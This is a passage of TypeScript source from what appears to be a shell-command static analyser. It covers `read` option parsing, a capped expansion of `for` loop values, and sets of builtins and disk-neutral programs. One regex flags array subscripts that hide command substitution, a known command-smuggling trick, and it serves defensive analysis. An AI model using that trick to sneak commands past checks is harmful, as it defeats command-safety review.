  let nul = false;
  for (let i = 1; i < words.length - 1; i++) {
    if (words[i] === '-r') continue;
    if (words[i] === '-d' && words[i + 1] === '') {
      nul = true;
      i++;
    } else return null;
  }
  const name = words.length > 1 ? words[words.length - 1]! : null;
  return name !== null && /^[A-Za-z_][A-Za-z0-9_]*$/.test(name) && !name.startsWith('-') ? { name, nul } : null;
}

/** What an expanded word knows of a variable holding a match (expand/word.ts MatchValue), for its Arg. */
function matchFlags(e: ExpandedWord): Partial<Arg> {
  return { ...(e.dashFirst ? { dashFirst: true } : {}), ...(e.produced ? { produced: true } : {}), ...(e.splitAt ? { splitAt: e.splitAt } : {}) };
}

/** At most this many words of a `for` list are followed one by one (each walks the body). */
const MAX_LOOP_VALUES = 16;

/**
 * The values a `for` variable takes, when every word is known: a literal, or a glob standing for
 * each path it matches (globMatchValue). Null when a word is only known at run time or there are
 * more than followed — the body is then walked once with the variable unknown.
 */
function loopValues(items: Word[], es: ExpandScope): string[] | null {
  const out: string[] = [];
  for (const w of items) {
    // `for f in $(git ls-files)`: each value one piece of the names printed, split and globbed.
    const only = w.parts.length === 1 ? w.parts[0] : null;
    const printed = only?.type === 'CmdSubst' ? substitutionNames(only.body, es) : null;
    if (printed !== null) {
      for (const pattern of printed.patterns) out.push(globMatchValue({ pattern, dashFirst: printed.dashFirst, produced: true, splitAt: 'blank-glob' }));
      continue;
    }
    const e = expandWord(w, es, 'argument');
    if (e.dynamic || e.truncated) return null;
    for (const f of e.fields) out.push(e.glob ? globMatchValue({ pattern: f, dashFirst: !f.startsWith('/') && /^[*?[]/.test(f) }) : f);
    if (out.length > MAX_LOOP_VALUES) return null;
  }
  return [...new Set(out)];
}

/** Words of code walked again that cost one step of the walk's budget. */
const WORDS_PER_STEP = 8;

/** POSIX special builtins: an assignment before one persists in posix mode and in dash. */
const SPECIAL_BUILTINS = new Set([
  'break',
  ':',
  '.',
  'continue',
  'eval',
  'exec',
  'exit',
  'export',
  'readonly',
  'return',
  'set',
  'shift',
  'times',
  'trap',
  'unset',
]);

/** `name[…$(…)…]` or with backquotes: an array subscript that runs a command when evaluated. */
const SUBSCRIPT_SUBSTITUTION = /[A-Za-z_][A-Za-z0-9_]*\[[^\]]*(\$\(|`|\$\{)/;

/** Builtins whose arguments name variables or are arithmetic (their subscripts are evaluated). */
const NAME_TAKING_BUILTINS = new Set([
  'let',
  'test',
  '[',
  '[[',
  'printf',
  'read',
  'declare',
  'typeset',
  'local',
  'export',
  'readonly',
  'unset',
  'mapfile',
  'readarray',
  'wait',
  'eval',
]);

function substitutionKind(p: CmdSubst | ProcSubst): CommandContext['substitution'] {
  if (p.type === 'CmdSubst') return 'command';
  return p.direction === '<' ? 'process-in' : 'process-out';
}

/** A redirect of fd 0 (`<`, `<<`, `<<<`, `<&`, `0>…`): what the command reads on stdin. */
function feedsStdin(r: RedirectTarget): boolean {
  return (r.fd ?? (r.op.startsWith('<') ? 0 : 1)) === 0;
}

/** A simple command that changes the shell's directory (`cd`, `pushd`, `popd`, through `builtin`/`command`). */
function changesDirectory(cmd: Command): boolean {
  if (cmd.type !== 'SimpleCommand') return false;
  const names = cmd.words.map((w) => w.raw);
  let i = 0;
  while (names[i] === 'builtin' || names[i] === 'command') i++;
  return DIRECTORY_BUILTINS.has(names[i]);
}

/** A program that changes nothing on disk, with no redirect to a file. */
function leavesDiskAlone(c: WalkedCommand): boolean {
  return (
    (c.program === null ? c.programRaw === '' : DISK_NEUTRAL.has(c.program)) &&
    c.redirects.every((r) => r.path === null || r.path.value === '/dev/null' || r.op === '<')
  );
}

/** Programs that change nothing on disk: after them, whether a directory can be entered is as it was. */
const DISK_NEUTRAL = new Set([
  'cd',
  'pushd',
  'popd',
  'pwd',
  'echo',
  'printf',
  'true',
  'false',
  ':',
  'test',
  '[',
  'ls',
  'cat',
  'head',
  'tail',
  'wc',
  'grep',
  'export',
  'set',
]);
